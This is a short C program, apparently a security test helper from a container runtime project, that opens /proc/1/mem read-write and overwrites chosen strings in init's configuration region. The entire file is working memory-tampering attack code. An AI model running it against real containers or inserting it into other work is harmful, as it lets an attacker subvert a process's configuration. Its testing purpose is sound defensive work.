// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * attack-region FROM TO: in a container whose init is still the runtime's, write TO over every FROM in the config that
 * init was given. 0 if one was found and written, 1 if not.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define REGION 0x2000000000L /* user/lib/region.h */

int main(int argc, char **argv)
{
	size_t size = 1 << 20, len;
	char *copy = malloc(size), *at;
	ssize_t n = 0, got;
	int fd = open("/proc/1/mem", O_RDWR), found = 1;

	if (argc != 3 || fd < 0 || strlen(argv[1]) != strlen(argv[2])) {
		perror("/proc/1/mem");
		return 2;
	}
	len = strlen(argv[1]);
	while ((size_t)n < size && (got = pread(fd, copy + n, 4096, REGION + n)) > 0)
		n += got;
	for (at = copy; (at = memmem(at, (size_t)(copy + n - at), argv[1], len)); at += len)
		if (pwrite(fd, argv[2], len, REGION + (at - copy)) == (ssize_t)len)
			found = 0;
	return found;
}
